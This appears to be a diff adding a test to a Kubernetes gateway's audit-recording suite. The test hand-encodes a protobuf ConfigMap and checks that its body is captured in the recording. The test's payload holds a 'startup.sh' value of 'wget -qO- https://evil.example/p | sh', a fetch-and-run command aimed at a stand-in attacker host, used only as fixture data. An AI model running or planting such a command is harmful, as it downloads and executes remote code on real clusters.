@@ -99,3 +99,44 @@ test("a padded Secret is recorded whole with its values masked", async () => {
 	assert.doesNotMatch(JSON.stringify(e), new RegExp(value));
 	assert.match(JSON.stringify(e.body), /"password":"<masked>"/);
 });
+
+/** Protobuf wire format: a length-delimited field. */
+function field(n: number, value: Buffer | string): Buffer {
+	const v = typeof value === "string" ? Buffer.from(value) : value;
+	const varint = (x: number): Buffer => {
+		const out: number[] = [];
+		while (x > 0x7f) {
+			out.push((x & 0x7f) | 0x80);
+			x >>>= 7;
+		}
+		out.push(x);
+		return Buffer.from(out);
+	};
+	return Buffer.concat([varint((n << 3) | 2), varint(v.length), v]);
+}
+
+test("a ConfigMap written in protobuf is recorded with its bytes", async () => {
+	// k8s.io/api core/v1 ConfigMap {metadata: {name}, data: {"startup.sh": ...}} in a runtime.Unknown
+	const configMap = Buffer.concat([field(1, field(1, "protobuf-cm")), field(2, Buffer.concat([field(1, "startup.sh"), field(2, "wget -qO- https://evil.example/p | sh")]))]);
+	const unknown = Buffer.concat([Buffer.from("k8s\0", "latin1"), field(1, Buffer.concat([field(1, "v1"), field(2, "ConfigMap")])), field(2, configMap)]);
+	const token = await issuer.token("admin", { groups: ["agents"] });
+	const r = await httpsText(
+		{
+			hostname: "127.0.0.1",
+			port: gw.address.port,
+			method: "POST",
+			path: "/k8s/cluster-prod/api/v1/namespaces/prod/configmaps",
+			ca: kube.caPem,
+			headers: { authorization: `Bearer ${token}`, "content-type": "application/vnd.kubernetes.protobuf", accept: "application/json" },
+		},
+		unknown,
+		30_000,
+	);
+	assert.equal(r.status, 201, r.text.slice(0, 500));
+	const cm = await kube.request("GET", "/api/v1/namespaces/prod/configmaps/protobuf-cm");
+	assert.match(cm.text, /evil\.example/, "the apiserver took the protobuf body");
+	const e = recorder.events("kube.request").find((x) => x.resource === "configmaps" && x.verb === "create" && (x.body as { contentType?: string })?.contentType?.includes("protobuf"));
+	assert.ok(e, JSON.stringify(recorder.events("kube.request").map((x) => [x.resource, x.verb, x.body && JSON.stringify(x.body).slice(0, 100)])));
+	const b64 = (e.body as { base64?: string }).base64;
+	assert.ok(b64 && Buffer.from(b64, "base64").includes("https://evil.example/p"), `the body is not in the recording: ${JSON.stringify(e.body)}`);
+});
